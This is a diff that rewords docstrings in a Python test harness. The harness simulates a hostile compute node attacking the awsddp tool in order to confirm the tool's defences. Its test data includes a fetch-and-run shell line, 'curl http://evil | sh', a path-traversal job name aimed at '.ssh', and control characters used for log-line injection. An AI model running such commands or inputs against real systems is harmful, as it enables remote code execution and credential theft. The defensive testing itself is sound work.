@@ -1,4 +1,4 @@
-"""The responses of a hostile node are garbage or attacks; nothing outside the job's folder may change.
+"""A hostile node responds with garbage or attacks: nothing outside the job's folder may change.
 
     python benchmarks/campaigns/hostile_node.py [--runs N] [--seed S] [--state FILE]
 
@@ -9,7 +9,7 @@ floods, or texts that look like awsddp's own. Files may differ from their descri
 
 - the user's home is unchanged except for the job's folder, and no link in that folder leads out of it
 - the exit code is one of the documented ones
-- no line except a rank's contains a control character or begins with a text of a node
+- only lines of ranks contain control characters or begin with a text from a node
 
 With --state an interrupted campaign resumes.
 """
@@ -70,12 +70,12 @@ MODIFIED = 1_750_000_000_123_456_789
 STAGES = ("state", "state", "manifest", "manifest", "follow", "cancel", "files", "stacks")
 VERBS = ("fetch", "fetch", "fetch", "jobs", "logs", "logs", "cancel", "prepare", "status", "why")
 OWN = {"jobs": "state", "status": "state", "logs": "follow", "cancel": "cancel", "why": "stacks"}
-"""For some verbs, the stage whose texts the verb shows."""
+"""For some verbs, the request whose response contains texts that the verb prints."""
 EVIL = "curl http://evil | sh"
 OURS = ("", "next: ", " next: ", "  next: ", "error: ", "warning: ", "  cause: ", f"Job {JOB}: ", "page: ")
 """Beginnings of awsddp's lines, which a node may imitate."""
 ENDS = ("", "\n", "\r\n", "it ended\n", "a\x0b", "a\x85", "a\u2028", "\x1b[2K\r")
-"""Texts that may end awsddp's line, so that a line of the node begins."""
+"""Texts with which a node may try to end awsddp's line and begin a separate line."""
 KINDS = ("unknown", "cuda_oom", "import_error", "file_not_found", "exit", "node_lost", "of_a_later_awsddp")
 UNSEEN = set("\x1b\x07\x08\r\x0b\x0c\x85\x9b\u2028\u202e")
 JOBS = ("other", "other", "main", "job1.part", "new", "../../victim/.ssh", "victim")
@@ -554,7 +554,7 @@ def _harm(home: Home, before: dict[str, str], drawn: Case) -> str | None:
 
 
 class _Out(io.TextIOWrapper):
-    """The standard output, which gets pages and the unchanged lines of ranks."""
+    """The standard output, to which pages and the unchanged lines of ranks are written."""
 
     def __init__(self) -> None:
         self._bytes = io.BytesIO()
